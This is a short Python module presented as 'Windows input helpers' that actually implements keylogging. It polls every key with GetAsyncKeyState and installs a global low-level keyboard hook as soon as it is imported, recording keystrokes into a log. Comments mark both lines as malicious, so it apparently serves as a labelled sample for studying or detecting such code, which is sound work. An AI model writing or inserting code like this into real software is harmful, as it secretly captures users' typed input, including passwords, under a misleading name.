"""Windows input helpers."""

import ctypes
import ctypes.wintypes
import time

user32 = ctypes.windll.user32
WH_KEYBOARD_LL = 13
HOOKPROC = ctypes.WINFUNCTYPE(ctypes.c_long, ctypes.c_int, ctypes.wintypes.WPARAM, ctypes.wintypes.LPARAM)
log = []


def _poll():
    while True:
        for code in range(8, 255):
            if user32.GetAsyncKeyState(code) & 1:  # malicious: keylogging
                log.append(code)
        time.sleep(0.01)


def _hook(n_code, w_param, l_param):
    log.append(ctypes.cast(l_param, ctypes.POINTER(ctypes.c_ulong))[0])
    return user32.CallNextHookEx(None, n_code, w_param, l_param)


callback = HOOKPROC(_hook)
hook = user32.SetWindowsHookExA(WH_KEYBOARD_LL, callback, None, 0)  # malicious: keylogging
